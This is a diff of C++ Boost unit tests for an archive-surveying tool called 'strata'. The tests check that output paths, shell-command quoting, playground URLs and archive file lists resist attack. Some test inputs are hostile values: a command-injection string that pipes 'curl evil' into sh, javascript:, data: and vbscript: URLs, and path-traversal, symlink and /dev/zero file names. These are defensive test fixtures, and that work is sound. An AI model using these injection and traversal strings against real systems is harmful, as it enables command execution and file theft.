@@ -4,6 +4,7 @@
 
 #include <signal.h>
 #include <sqlite3.h>
+#include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -183,6 +184,20 @@ BOOST_AUTO_TEST_CASE(rows_are_a_database_with_a_row_for_each_page) {
                crawl.slashes);
     BOOST_TEST(number_in(rows, "SELECT count(*) FROM skipped WHERE reason = 'status'") == crawl.missing);
     check_refused_with(strata({"survey", "--rows=" + rows, archive}), "exists already");
+    // Nothing but the file itself is written, whatever its name means elsewhere.
+    (void)folder.write("mine.part", "mine");
+    (void)survey({"--rows=" + folder.path("mine"), archive});
+    BOOST_TEST(folder.read("mine.part") == "mine");
+    BOOST_TEST(number_in(folder.path("mine"), "SELECT count(*) FROM pages") == crawl.pages);
+    const outcome uri = strata({"survey", "--drafts=2008,modern", "--rows=file:uri?mode=memory", archive}, "",
+                               "cd " + shell_word(folder.path("")) + " &&");
+    BOOST_TEST(strata::testing::fs::exists(folder.path("file:uri?mode=memory")), uri.err);
+    strata::testing::fs::create_symlink(folder.path("elsewhere"), folder.path("link"));
+    check_refused_with(strata({"survey", "--rows=" + folder.path("no/rows"), archive}), "No such file");
+    check_refused_with(strata({"survey", "--rows=" + folder.path("link"), archive}), "exists already");
+    BOOST_TEST(!strata::testing::fs::exists(folder.path("elsewhere")));
+    for (const auto& each : strata::testing::fs::directory_iterator(folder.path("")))
+        BOOST_TEST(!contains(each.path().filename().string(), "sqlite."), each.path().string());
 }
 
 BOOST_AUTO_TEST_CASE(an_example_shows_what_the_drafts_make_of_it_only_if_its_excerpt_does) {
@@ -199,6 +214,7 @@ BOOST_AUTO_TEST_CASE(an_example_shows_what_the_drafts_make_of_it_only_if_its_exc
     // A result that names a file as a draft has nothing read.
     std::string named = survey({page});
     for (std::size_t at = 0; (at = named.find("\"2008\"", at)) != std::string::npos;) named.replace(at, 6, "\"@-\"");
+    named.replace(named.find("--drafts=2008"), 13, "--drafts=@-");
     const outcome of_file = strata({"survey", "merge", "--format=html", folder.write("b.json", named)}, "<p>");
     BOOST_TEST(of_file.status == 0, of_file.err);
     BOOST_TEST(!contains(of_file.out, "What the drafts make of it"));
@@ -207,6 +223,29 @@ BOOST_AUTO_TEST_CASE(an_example_shows_what_the_drafts_make_of_it_only_if_its_exc
     const std::string without = strata({"survey", "--drafts=2008,modern", "--format=html", far}).out;
     BOOST_TEST(without.find("self-closing-flag") != std::string::npos);
     BOOST_TEST(without.find("What the drafts make of it") == std::string::npos);
+}
+
+BOOST_AUTO_TEST_CASE(commands_to_copy_are_quoted_and_links_lead_to_pages_alone) {
+    const std::string page = folder.write("it's $(a) page.html", "<br/>");
+    const std::string text = strata({"survey", "--drafts=2008,modern+fragment=svg desc", "--format=html", page}).out;
+    BOOST_TEST(contains(text, "strata compare '--drafts=2008,modern+fragment=svg desc' '"), text);
+    BOOST_TEST(
+        (contains(text, "it&#39;\\&#39;&#39;s $(a) page.html&#39;") || contains(text, "it'\\''s $(a) page.html'")));
+    // A result may be anybody's.
+    std::string edited = survey({page});
+    for (std::size_t at = 0; (at = edited.find("2008", at)) != std::string::npos; at += 20)
+        edited.replace(at, 4, "2008;curl evil|sh;#");
+    check_refused_with(strata({"survey", "merge", "--format=html", folder.write("e.json", edited)}),
+                       "the command does not ask for what the terms say");
+    for (const std::string address :
+         {"javascript:alert(1)", "JavaScript:x", "data:text/html,x", " https://a/", "vbscript:x"})
+        check_refused_with(strata({"survey", "--format=html", "--playground=" + address, page}),
+                           "not the address of a page");
+    for (const std::string address :
+         {"https://a.example/play.html", "play.html", "../p:q.html?x", "file:///a/b.html", "#x"})
+        BOOST_TEST(
+            strata({"survey", "--drafts=2008,modern", "--format=html", "--playground=" + address, page}).status == 0,
+            address);
 }
 
 BOOST_AUTO_TEST_CASE(a_record_on_standard_input_gives_a_row_on_standard_output) {
@@ -259,6 +298,34 @@ BOOST_AUTO_TEST_CASE(the_end_of_a_page_that_was_cut_short_makes_no_difference) {
     // The archive itself ends early, in the middle of the page or of its chunks.
     BOOST_TEST(found(record.substr(0, record.size() - 4)).at("places") == 2);
     BOOST_TEST(found(record.substr(0, record.size() - 6)).at("places") == 1);
+}
+
+BOOST_AUTO_TEST_CASE(a_list_leads_nowhere_out_of_its_folder) {
+    const std::string record = warc_record("response", "http://a/", response("<br/>"));
+    strata::testing::fs::create_directory(folder.path("archives"));
+    strata::testing::fs::create_directory(folder.path("archives/inner"));
+    (void)folder.write("secret.warc", record);
+    (void)folder.write("archives/inner/a.warc", record);
+    BOOST_REQUIRE(::mkfifo(folder.path("archives/pipe").c_str(), 0600) == 0);
+    strata::testing::fs::create_symlink("../secret.warc", folder.path("archives/out.warc"));
+    strata::testing::fs::create_symlink("/dev/zero", folder.path("archives/zero"));
+    strata::testing::fs::create_symlink("inner/a.warc", folder.path("archives/in.warc"));
+    const auto pages = [&](const std::string& name) {
+        const std::string list =
+            folder.write("list.jsonl", R"({"filename": ")" + name + R"(", "offset": 0, "length": )" +
+                                           std::to_string(record.size()) + "}\n");
+        const auto found = strata::report::parsed_json(survey({"--archives=" + folder.path("archives"), list}));
+        BOOST_TEST(found.at("pages").get<int>() + found.at("skipped").value("broken coordinates", 0) == 1, name);
+        return found.at("pages").get<int>();
+    };
+    for (const std::string& name :
+         {std::string("../secret.warc"), folder.path("secret.warc"), std::string("inner/../../secret.warc"),
+          std::string("out.warc"), std::string("zero"), std::string("/dev/zero"), std::string("pipe"),
+          std::string("inner"), std::string(".."), std::string(""), std::string("/"), std::string("no.warc")})
+        BOOST_TEST(pages(name) == 0, name);
+    for (const std::string& name : {std::string("inner/a.warc"), std::string("./inner//a.warc"), std::string("in.warc"),
+                                    std::string("/elsewhere/in.warc"), std::string("s3://bucket/in.warc")})
+        BOOST_TEST(pages(name) == 1, name);
 }
 
 BOOST_AUTO_TEST_CASE(a_list_may_have_any_name_and_be_packed) {
